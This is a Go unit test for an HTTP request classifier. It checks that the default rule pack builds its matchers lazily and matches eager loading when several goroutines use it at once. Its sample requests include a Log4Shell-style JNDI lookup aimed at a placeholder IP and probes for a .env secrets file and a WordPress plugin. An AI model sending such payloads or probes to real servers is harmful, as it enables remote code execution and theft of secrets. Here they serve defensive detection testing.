package httprules

import (
	"slices"
	"sync"
	"testing"

	"phalanx/parser/httplog"
)

// TestDefaultBuildsAutomataOnFirstUse: Default's pack holds only patterns
// until a request is classified; then it classifies exactly as the same
// file loaded eagerly, also when many goroutines classify first at once.
func TestDefaultBuildsAutomataOnFirstUse(t *testing.T) {
	lazy := Default()
	if lazy.auto.uri != nil || lazy.auto.hdr != nil {
		t.Fatal("Default built its automata before any request")
	}
	eager, err := Load(defaultYAML)
	if err != nil {
		t.Fatal(err)
	}
	if eager.auto.uri == nil || eager.auto.hdr == nil {
		t.Fatal("Load left its automata unbuilt: an operator's file must be checked whole when it is loaded")
	}
	reqs := []*httplog.Request{
		{Method: []byte("GET"), URI: []byte("/products/shoes?page=2"), Proto: []byte("HTTP/2.0"), Status: 200, UserAgent: []byte("Mozilla/5.0 (X11; Linux x86_64)")},
		{Method: []byte("GET"), URI: []byte("/wp-content/plugins/revslider/readme.txt"), Proto: []byte("HTTP/1.1"), Status: 404, UserAgent: []byte("Mozilla/5.0")},
		{Method: []byte("GET"), URI: []byte("/?x=${jndi:ldap://198.51.100.1/a}"), Proto: []byte("HTTP/1.1"), Status: 200, UserAgent: []byte("curl/8.0")},
		{Method: []byte("GET"), URI: []byte("/.env"), Proto: []byte("HTTP/1.1"), Status: 404, UserAgent: []byte("sqlmap/1.7")},
		{Method: []byte("GET"), URI: []byte("/robots.txt"), Proto: []byte("HTTP/1.1"), Status: 200, UserAgent: []byte("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")},
	}
	want := make([][]Hit, len(reqs))
	hits := 0
	for i, r := range reqs {
		want[i] = eager.Classify(r, nil)
		hits += len(want[i])
	}
	if hits == 0 {
		t.Fatal("no request of the test hit a rule: the comparison would prove nothing")
	}
	var wg sync.WaitGroup
	got := make([][][]Hit, 8)
	for g := range got {
		wg.Go(func() {
			c := lazy.NewClassifier()
			for _, r := range reqs {
				got[g] = append(got[g], c.Classify(r, nil))
			}
		})
	}
	wg.Wait()
	for g := range got {
		for i := range reqs {
			if !slices.Equal(got[g][i], want[i]) {
				t.Errorf("goroutine %d, request %q: lazy pack %v, eager pack %v", g, reqs[i].URI, got[g][i], want[i])
			}
		}
	}
	if lazy.auto.uriPats != nil || lazy.auto.hdrPats != nil {
		t.Error("the built pack still holds its patterns")
	}
}
